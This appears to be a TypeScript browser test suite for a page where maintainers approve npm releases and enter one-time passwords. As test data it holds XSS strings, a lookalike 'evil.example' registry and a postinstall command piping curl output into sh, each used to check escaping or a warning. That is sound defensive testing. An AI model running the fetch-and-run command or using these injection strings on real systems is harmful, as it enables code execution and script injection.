import ava, { type ExecutionContext } from 'ava'
import type { Page } from 'playwright-core'
import { ask, type Job, questionOf } from '../helpers/asking-job.ts'
import { sharedBrowser } from '../helpers/browser.ts'
import { becomes } from '../helpers/eventually.ts'
import { openPagePlace } from '../helpers/page-place.ts'

// One after another: each has its own service and browser tabs.
const test = ava.serial
const browser = sharedBrowser()

type Changes = Parameters<typeof ask>[1]

/** A release that waits, and Alice on its page. */
async function open(t: ExecutionContext, changes: Changes | (() => Changes) = {}) {
  const place = await openPagePlace(t, browser)
  const alice = await place.join('admin', 'Alice')
  await alice.inject({ method: 'PATCH', url: '/api/me', payload: { accounts: ['bob'] } })
  const project = await place.addProject(alice)
  const job = await ask(project, typeof changes === 'function' ? changes() : changes)
  const page = await place.openTab(`/q/${job.question.id}`, {}, alice)
  await page.getByRole('heading', { level: 1, name: job.question.package.name }).waitFor()
  return { ...place, alice, job, page, code: page.getByLabel('One-time password') }
}

const approveAlone = async (page: Page) => {
  await page.getByRole('button', { name: 'Approve' }).click()
  await page.getByRole('dialog').getByRole('button', { name: 'Yes, approve' }).click()
}

const heading = (page: Page, name: string) => page.getByRole('heading', { level: 2, name }).waitFor()

test('sends six digits automatically and sealed, and shows the progress of the release', async (t) => {
  const { page, job, code } = await open(t)
  await page.getByLabel('Publish as').selectOption('alice')
  await code.fill('123456')
  t.like(await job.answer(), { username: 'alice', otp: '123456' })
  await heading(page, 'Answer sent')
  await job.report({ state: 'publishing' })
  await heading(page, 'Publishing')
  await job.report({ state: 'published' })
  const link = page.getByRole('link', { name: 'See it on npmjs.com' })
  t.is(await link.getAttribute('href'), 'https://www.npmjs.com/package/@example/tool/v/2.1.0')
  await becomes(t, () => page.title(), 'published: @example/tool@2.1.0')
})

test('takes a pasted code with spaces, and selects the person’s own account', async (t) => {
  const { page, job, code } = await open(t)
  t.is(await page.getByLabel('Publish as').inputValue(), 'bob')
  await code.focus()
  await page.keyboard.insertText('123 456')
  t.is(await code.inputValue(), '123456')
  t.like(await job.answer(), { username: 'bob', otp: '123456' })
})

test('editing the code stops the automatic sending, and Enter sends a longer code', async (t) => {
  const { page, job, code } = await open(t)
  // Time stands still, so the delay before sending lasts as long as this test needs.
  await page.clock.install()
  await page.clock.pauseAt(Date.now() + 60_000)
  await code.fill('123456')
  await page.getByText('Sending. Edit the code to stop.').waitFor()
  await code.fill('12345678')
  await page.getByText('Six digits are sent automatically.').waitFor()
  await page.clock.runFor(2_000)
  t.is(await code.inputValue(), '12345678')
  await code.press('Enter')
  t.like(await job.answer(), { otp: '12345678' })
})

test('after “My code is longer”, a code can be typed slowly', async (t) => {
  const { page, job, code } = await open(t)
  await page.getByRole('button', { name: 'My code is longer' }).click()
  await code.fill('123456')
  await page.getByText('Up to 16 digits. Sent when you press the button.').waitFor()
  await code.pressSequentially('78')
  await page.getByRole('button', { name: 'Send the code' }).click()
  t.like(await job.answer(), { otp: '12345678' })
})

const REFUSED: [text: string, problem: string][] = [
  ['0123456789abcdef'.repeat(4), 'This is a recovery code.'],
  ['12345', 'A code has 6 to 16 digits.'],
  ['12345x', 'A code has 6 to 16 digits.'],
  ['', 'Enter the code from your authenticator.'],
]
for (const [text, problem] of REFUSED) {
  test(`refuses “${text.slice(0, 8)}” of ${text.length} characters and says why`, async (t) => {
    const { page, code } = await open(t)
    await code.fill(text)
    await code.press('Enter')
    await page.getByRole('alert').filter({ hasText: problem }).waitFor()
    t.is(await code.getAttribute('aria-invalid'), 'true')
    const question = await page.request.get(page.url().replace('/q/', '/api/questions/'))
    t.is((await question.json()).state, 'waiting')
  })
}

test('a rejected code is asked for again, with the reason, in an empty and focused field', async (t) => {
  const { page, job, code } = await open(t)
  await code.fill('123456')
  await job.answer()
  await job.report({ state: 'rejected', reason: 'The registry refused the code.' })
  await heading(page, 'The registry refused the code')
  await job.askAgain(2, 'rejected')
  await page.locator('.again', { hasText: 'The registry refused the code.' }).waitFor()
  await page.locator('#code:focus').waitFor()
  t.is(await code.inputValue(), '')
  await code.fill('654321')
  t.like(await job.answer(), { otp: '654321' })
})

test('an account must be chosen if none is the person’s own', async (t) => {
  const { page, job, code } = await open(t, { accounts: ['carol', 'dave'] })
  await code.fill('123456')
  await code.press('Enter')
  await page.getByText('Choose the account that the code belongs to.').waitFor()
  await page.getByLabel('Publish as').selectOption('dave')
  await code.press('Enter')
  t.like(await job.answer(), { username: 'dave', otp: '123456' })
})

test('a release is approved without a code, and other waiting releases are then listed', async (t) => {
  const { page, job, addProject, alice } = await open(t, { ask: 'approval' })
  await heading(page, 'May this be released?')
  await approveAlone(page)
  t.like(await job.answer(), { type: 'approval', otp: undefined })
  await heading(page, 'Approved')
  await ask(await addProject(alice, 'other'), {})
  await heading(page, 'Also waiting')
})

test('a code can be sent with an approval, by the button', async (t) => {
  const { page, job } = await open(t, { ask: 'approval', accounts: ['alice'] })
  await page.getByLabel('One-time password (optional)').fill('123456')
  await page.getByRole('button', { name: 'Approve 2.1.0 and send the code' }).click()
  t.like(await job.answer(), { type: 'approval', username: 'alice', otp: '123456' })
})

test('declines with a reason on one line', async (t) => {
  const { page, job } = await open(t)
  await page.getByRole('button', { name: 'Decline…' }).click()
  const dialog = page.getByRole('dialog', { name: 'Decline @example/tool@2.1.0?' })
  await dialog.getByLabel('Reason').fill('Let us wait\nfor the fix.')
  t.is(await dialog.getByText('staged').count(), 0)
  await dialog.getByRole('button', { name: 'Decline the release' }).click()
  const { answer } = await job.newsOf('declined')
  t.like(answer, { declined: true, by: 'Alice', reason: 'Let us wait for the fix.' })
  await heading(page, 'Declined by you')
})

const STAGED_PAGE =
  'https://www.npmjs.com/settings/~/staged-packages/?page=0&perPage=10&filterPackage=%40example%2Ftool'

test('a decline of a staged version can carry a sealed code that discards it, by keyboard alone', async (t) => {
  const { page, job } = await open(t, { kind: 'stage-approve', ask: 'approval' })
  const staged = page.getByRole('link', { name: 'See what is staged on npmjs.com' })
  t.is(await staged.getAttribute('href'), STAGED_PAGE)
  const bodies: string[] = []
  page.on('request', (request) => void bodies.push(request.postData() ?? ''))
  await page.getByRole('button', { name: 'Decline…' }).press('Enter')
  const dialog = page.getByRole('dialog', { name: 'Decline @example/tool@2.1.0?' })
  t.is(await dialog.getByLabel('Discard as').inputValue(), 'bob')
  await dialog.getByLabel('Discard as').selectOption('alice')
  const code = dialog.getByLabel('One-time password')
  await code.fill('12345')
  await code.press('Enter')
  await dialog.getByRole('alert').filter({ hasText: 'A code has 6 to 16 digits.' }).waitFor()
  t.deepEqual(
    bodies.filter((body) => body.includes('attempt')),
    [],
  )
  await code.fill('123 456')
  await dialog.getByText('The job also discards version 2.1.0 with your code').waitFor()
  await dialog.getByRole('button', { name: 'Decline and discard 2.1.0' }).press('Enter')
  const { answer } = await job.newsOf('declined')
  t.like(answer, { declined: true, by: 'Alice' })
  t.like(await job.open(answer?.sealed ?? ''), { type: 'decline', username: 'alice', otp: '123456' })
  t.notRegex(bodies.join('\n'), /123456/)
  await heading(page, 'Declined by you')
  const link = page.getByRole('link', { name: 'Discard it on npmjs.com' })
  await link.waitFor()
  await job.report({
    state: 'declined',
    reason: '@example/tool@2.1.0 was discarded: it is no longer staged.',
  })
  await page.getByText('Nothing was published. @example/tool@2.1.0 was discarded').first().waitFor()
  t.is(await link.count(), 0)
})

test('a code is only sent with a decline once its account is chosen', async (t) => {
  const { page, job } = await open(t, { kind: 'stage-approve', accounts: ['carol', 'dave'] })
  await page.getByRole('button', { name: 'Decline…' }).click()
  const dialog = page.getByRole('dialog')
  await dialog.getByLabel('One-time password').fill('123456')
  const decline = dialog.getByRole('button', { name: 'Decline and discard 2.1.0' })
  await decline.click()
  await dialog.getByRole('alert').filter({ hasText: 'Choose the account' }).waitFor()
  await dialog.getByLabel('Discard as').selectOption('dave')
  await decline.click()
  const { answer } = await job.newsOf('declined')
  t.like(await job.open(answer?.sealed ?? ''), { username: 'dave', otp: '123456' })
})

test('a decline without a code leaves the version staged, and the page says where to discard it', async (t) => {
  const { page, job } = await open(t, { kind: 'stage-approve' })
  await page.getByRole('button', { name: 'Decline…' }).click()
  const dialog = page.getByRole('dialog')
  const staying = dialog.getByText('Version 2.1.0 stays staged')
  await staying.waitFor()
  await dialog.getByLabel('One-time password').fill('123456')
  await staying.waitFor({ state: 'detached' })
  await dialog.getByLabel('One-time password').fill('')
  await staying.waitFor()
  await dialog.getByRole('button', { name: 'Decline the release' }).click()
  t.deepEqual((await job.newsOf('declined')).answer, { declined: true, by: 'Alice', reason: null } as never)
  const link = page.getByRole('link', { name: 'Discard it on npmjs.com' })
  t.is(await link.getAttribute('href'), STAGED_PAGE)
  await page.getByText('npx npm@11 stage reject <id>').waitFor()
})

test('at another registry, the page has no link to the staged version', async (t) => {
  const subject = { ...questionOf().package, registry: 'https://npm.company.example/' }
  const { page } = await open(t, { kind: 'stage-approve', package: subject })
  await page.getByRole('button', { name: 'Decline…' }).click()
  await page.getByRole('button', { name: 'Decline the release' }).click()
  await page.getByText('npx npm@11 stage reject <id>').waitFor()
  t.is(await page.getByRole('link', { name: 'Discard it' }).count(), 0)
})

test('a decline that came after the job had asked again says so, and can be repeated', async (t) => {
  const { page, job } = await open(t)
  await page.getByRole('button', { name: 'Decline…' }).click()
  const dialog = page.getByRole('dialog')
  await dialog.waitFor()
  // The page gets no news meanwhile, as on a bad network.
  await page.route('**/api/questions/*', (route) => route.abort(), { times: 1 })
  await job.askAgain(2, 'rejected')
  await dialog.getByRole('button', { name: 'Decline the release' }).click()
  await dialog.getByText('The job has asked again since then. Please look at it once more.').waitFor()
  await dialog.getByRole('button', { name: 'Decline the release' }).click()
  await heading(page, 'Declined by you')
  t.is((await job.newsOf('declined')).state, 'declined')
})

test('a cancelled dialog declines nothing and returns the focus', async (t) => {
  const { page } = await open(t)
  await page.getByRole('button', { name: 'Decline…' }).click()
  await page.getByRole('dialog').waitFor()
  await page.keyboard.press('Escape')
  await page.getByRole('dialog').waitFor({ state: 'detached' })
  t.is(await page.evaluate(() => document.activeElement?.textContent), 'Decline…')
  await heading(page, 'A code is needed to publish')
})

test('says who answered first, and that this person’s answer was not used', async (t) => {
  const { page, job, code, join, openTab } = await open(t)
  const bob = await join('maintainer', 'Bob')
  const other = await openTab(`/q/${job.question.id}`, {}, bob)
  await other.getByLabel('Publish as').selectOption('alice')
  // Alice's page gets no news meanwhile, as on a bad network.
  await page.route('**/api/questions/*', (route) => route.abort(), { times: 1 })
  const held = Promise.withResolvers<void>()
  await page.route('**/answer', async (route) => {
    await held.promise
    await route.continue()
  })
  await code.fill('111111')
  await page.getByRole('button', { name: 'Sending…' }).waitFor()
  await other.getByLabel('One-time password').fill('222222')
  t.like(await job.answer(), { otp: '222222' })
  held.resolve()
  await heading(page, 'Bob answered first')
  await page.getByRole('region').getByText('Your answer was not used.').waitFor()
})

const ENDS: [name: string, end: (job: Job) => Promise<void>, heading: string][] = [
  ['withdrawn', (job) => job.report({ state: 'withdrawn', reason: null }), 'The job no longer asks'],
  [
    'failed',
    async (job) => {
      await job.report({ state: 'publishing' })
      await job.report({ state: 'failed', reason: 'The registry was not there.' })
    },
    'The job failed',
  ],
]
for (const [name, end, title] of ENDS) {
  test(`shows at once that a question is ${name}`, async (t) => {
    const { page, job, code } = await open(t)
    if (name === 'failed') {
      await code.fill('123456')
      await job.answer()
    }
    await end(job)
    await heading(page, title)
    t.is(await code.count(), 0)
  })
}

test('shows at once that time is up', async (t) => {
  const { page } = await open(t, () => ({ expiresAt: new Date(Date.now() + 3_000).toISOString() }))
  await heading(page, 'Time is up')
  t.pass()
})

test('the text of a build is shown as text, and an invalid repository gets no link', async (t) => {
  const build = { ...questionOf().build, repository: '<img src=x onerror=alert(1)>', branch: '"><script>' }
  const { page } = await open(t, { build })
  await page.getByText('"><script>').waitFor()
  const commit = page.getByText('3b18e512').first()
  t.is(await commit.evaluate((element) => element.closest('a')), null)
  t.is(await page.getByText('<b>whole</b>').count(), 1)
})

test('links the commit if the URL of the run confirms the repository', async (t) => {
  const { page } = await open(t)
  const link = page.getByRole('link', { name: '3b18e512' })
  t.is(
    await link.getAttribute('href'),
    'https://github.com/example/tool/commit/3b18e512dba79e4c8300dd08aeb37f8e728b8dad',
  )
})

test('warns about another registry than npm’s own', async (t) => {
  const subject = { ...questionOf().package, registry: 'https://registry.npmjs.org.evil.example/' }
  const { page } = await open(t, { package: subject })
  await page.getByText('This is not npm’s own registry. It will receive your code.').waitFor()
  t.pass()
})

test('warns about network settings of the repository, above the buttons', async (t) => {
  const network = [
    { setting: 'proxy', value: 'http://proxy.example:8080/', file: '.npmrc' },
    { setting: 'cafile', value: '<b>ca.pem</b>', file: '.npmrc' },
  ]
  const { page } = await open(t, { network })
  const warning = page.getByRole('region', { name: 'This release reaches the registry through settings' })
  await warning.getByText('proxy=http://proxy.example:8080/').waitFor()
  await warning.getByText('cafile=<b>ca.pem</b>').waitFor()
  const [above, button] = await Promise.all([
    warning.boundingBox(),
    page.getByRole('button', { name: 'Send the code' }).boundingBox(),
  ])
  t.true((above?.y ?? 0) + (above?.height ?? 0) <= (button?.y ?? 0))
})

test('shows the trust evidence of the version, and warns above the buttons if an earlier version has more', async (t) => {
  const earlier = { version: '1.9.0', carries: ['approval' as const, 'provenance' as const] }
  const { page } = await open(t, { trust: { carries: ['provenance'], earlier } })
  const warning = page.getByRole('region', {
    name: 'Installers will trust this less than an earlier version',
  })
  await warning.getByText('will carry: provenance. Version 1.9.0 carries: approved by a maintainer').waitFor()
  const [above, button] = await Promise.all([
    warning.boundingBox(),
    page.getByRole('button', { name: 'Send the code' }).boundingBox(),
  ])
  t.true((above?.y ?? 0) + (above?.height ?? 0) <= (button?.y ?? 0))
  const { page: strong } = await open(t, { trust: { carries: ['approval', 'provenance'], earlier } })
  await strong.getByText('Will carry').waitFor()
  await strong.getByText('approved by a maintainer, provenance', { exact: true }).waitFor()
  t.is(await strong.getByText('Installers will trust this less').count(), 0)
})

test('shows the install scripts and their commands above the buttons', async (t) => {
  const scripts = [
    { event: 'preinstall', command: 'node check.js' },
    { event: 'postinstall', command: 'curl https://a.example | <b>sh</b>' },
  ]
  const details = { notes: null, files: [], previous: null, commits: [], scripts }
  const { page, job } = await open(t, { ask: 'approval', accounts: ['alice'], details })
  const notice = page.getByRole('region', { name: 'This version runs scripts where it is installed' })
  const items = notice.getByRole('listitem')
  await items.filter({ hasText: 'preinstall: node check.js' }).waitFor()
  await items.filter({ hasText: 'postinstall: curl https://a.example | <b>sh</b>' }).waitFor()
  const advice = notice.getByText('If you don’t expect this, decline.')
  await advice.waitFor()
  const [above, button] = await Promise.all([
    notice.boundingBox(),
    page.getByRole('button', { name: 'Approve' }).boundingBox(),
  ])
  t.true((above?.y ?? 0) + (above?.height ?? 0) <= (button?.y ?? 0))
  await approveAlone(page)
  await job.answer()
  await heading(page, 'Approved')
  await items.first().waitFor()
  t.is(await advice.count(), 0)
})

test('a release without install scripts has no notice about them', async (t) => {
  const { page } = await open(t)
  t.is(await page.getByRole('region', { name: 'runs scripts' }).count(), 0)
})

for (const access of ['public', 'restricted', null] as const) {
  test(`shows access ${access}`, async (t) => {
    const { page } = await open(t, { package: { ...questionOf().package, access } })
    const shown = await page.getByRole('definition').allTextContents()
    const terms = await page.getByRole('term').allTextContents()
    t.is(shown[terms.indexOf('Access')], access ?? undefined)
  })
}

test('a job without known accounts can still get a code', async (t) => {
  const { page, job, code } = await open(t, { accounts: [] })
  t.is(await page.getByLabel('Publish as').count(), 0)
  await code.fill('123456')
  t.like(await job.answer(), { username: undefined, otp: '123456' })
})
